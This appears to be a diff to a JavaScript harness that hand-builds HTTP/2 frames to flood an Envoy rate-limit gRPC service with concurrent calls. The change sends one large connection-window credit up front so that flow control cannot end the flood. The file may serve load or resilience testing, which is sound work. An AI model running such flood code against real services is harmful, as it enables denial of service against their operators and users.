@@ -3,8 +3,8 @@ import { h2 } from './frames.mjs';
 const PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit';
 const BLOCK = h2.fieldBlock(h2.callFields(PATH));
 const HELLO = Buffer.concat([h2.PREFACE, h2.settings()]);
-/** What the answers of some rounds have taken of the window. */
-const CREDIT = h2.frame(h2.TYPE.windowUpdate, 0, 0, Buffer.from([0, 0, 0x7f, 0xff]));
+/** A window of the connection that no answers use up: one that closes would end a flood after some rounds. */
+const CREDIT = h2.frame(h2.TYPE.windowUpdate, 0, 0, Buffer.from([0x40, 0, 0, 0]));
 const WINDOW = h2.frame(h2.TYPE.windowUpdate, 0, 0, Buffer.from([0, 1, 0, 0]));
 
 const field = (number, bytes) => Buffer.concat([Buffer.from([number * 8 + 2, bytes.length]), bytes]);
@@ -51,9 +51,8 @@ const repeated = (frame) => writing(4, (round) => (round === 0 ? begun(1) : many
 /** Calls as fast as they are answered, as many at once as the service takes. */
 const flood = (count) => (target) =>
   target.keep(count, async (line, round) => {
-    if (round === 0) await line.write(Buffer.concat([HELLO, h2.frame(h2.TYPE.settings, h2.ACK, 0)]));
+    if (round === 0) await line.write(Buffer.concat([HELLO, h2.frame(h2.TYPE.settings, h2.ACK, 0), CREDIT]));
     if (!(await line.write(each(100, (stream) => [h2.callFrames(stream, BLOCK, MESSAGE)])(round)))) return false;
-    if (round % 8 === 7) await line.write(CREDIT);
     await line.answered(100 * (round + 1));
     return true;
   });
